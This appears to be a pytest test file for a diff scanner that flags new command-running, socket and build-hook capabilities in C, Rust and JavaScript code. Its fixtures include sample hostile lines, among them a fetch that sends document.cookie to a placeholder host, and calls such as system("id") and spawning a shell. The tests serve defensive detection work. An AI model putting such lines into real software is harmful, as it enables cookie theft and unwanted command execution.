"""Calls in C, Rust and JavaScript."""

from __future__ import annotations

import pytest

from tests.comparators.analysis.findings.cases import lines

C = "int f(void) { return 0; }\n"
REPORTED = {
    "a shell": ("p/_c.c", 'int r = system("id");', "executes: system"),
    "a library": (
        "p/_c.cpp",
        "void *h = dlopen(name, 1); f = ::popen (x, y);",
        "executes: dlopen, popen",
    ),
    "a socket": ("p/_c.c", "fd = socket(AF_INET, 1, 0);", "connects: socket"),
    "Cython": ("p/_c.pyx", "    system(b'id')", "executes: system"),
    "Rust": (
        "src/lib.rs",
        'std::process::Command::new("sh").spawn();',
        "executes: process::Command",
    ),
    "a connection of Rust": (
        "src/lib.rs",
        "let s = TcpStream::connect(a)?;",
        "connects: TcpStream",
    ),
    "JavaScript": (
        "p/static/a.js",
        "require('child_process').exec('id')",
        "executes: child_process",
    ),
    "a request of JavaScript": (
        "p/static/a.js",
        "fetch('https://a.invalid/' + document.cookie)",
        "connects: fetch",
    ),
    "run when it is loaded": (
        "p/_c.c",
        "static __attribute__ (( __constructor__ )) void g(void) {}",
        "executes: __constructor",
    ),
    "a template of Python": (
        "p/t.py.in",
        "subprocess.run(['id'])",
        "executes: subprocess.run",
    ),
    "an included file": ("p/m.pxi", "os.popen('id')", "executes: os.popen"),
}
SILENT = {
    "a comment": ("p/_c.c", "// system(x)"),
    "a line of a comment": ("p/_c.c", " * calls system(x)"),
    "a string": ("p/_c.c", 'puts("system(x)");'),
    "another name": ("p/_c.c", "file_system(x); a.system(x); a->socket(y);"),
    "no call": ("p/_c.c", "int system;"),
    "a method": ("p/a.js", "view.fetch(x); $eval(y)"),
    "another language": ("p/a.go", "system(x)"),
}


@pytest.mark.parametrize(
    ("path", "new", "expected"), REPORTED.values(), ids=REPORTED
)
def test_a_call(path: str, new: str, expected: str) -> None:
    old, both = C.encode(), (C + new + "\n").encode()
    found = [f"review new-capability {path}:2 {expected}"]
    assert lines({path: old}, {path: both}) == found
    assert lines({}, {path: both}) == found
    assert lines({path: both}, {path: both + new.encode() + b" \n"}) == []


@pytest.mark.parametrize(("path", "new"), SILENT.values(), ids=SILENT)
def test_no_call(path: str, new: str) -> None:
    assert lines({}, {path: new.encode()}) == []


def test_where_it_lies_and_when_it_runs() -> None:
    assert lines({}, {"tests/a.c": b"system(x);"}) == [
        "note new-capability tests/a.c:1 executes: system"
    ]
    assert lines({}, {"build.rs": b"Command::new(x)"}) == [
        "review runs-at-build build.rs:1 executes: Command::new"
    ]
    assert lines({}, {"package.json": b'"postinstall": "x"'}) == [
        "review runs-at-build package.json:1 executes: postinstall"
    ]
    assert lines({}, {"p/m.pyi": b"os.system('id')"}) == [
        "review new-capability p/m.pyi:1 executes: os.system"
    ]


def test_a_comment_of_the_old_file_hides_nothing() -> None:
    assert lines({"a.c": b"// system(x)"}, {"a.c": b"system(x);"}) == [
        "review new-capability a.c:1 executes: system"
    ]


def test_python_that_cannot_be_parsed() -> None:
    old, new = b"print 'a'\n", b"print 'a'\nimport os\nos.system('x')\n"
    assert lines({"m.py": old}, {"m.py": new}) == [
        "review new-capability m.py:3 executes: os.system"
    ]
    assert lines({"m.py": new}, {"m.py": new + b"print 'b'\n"}) == []
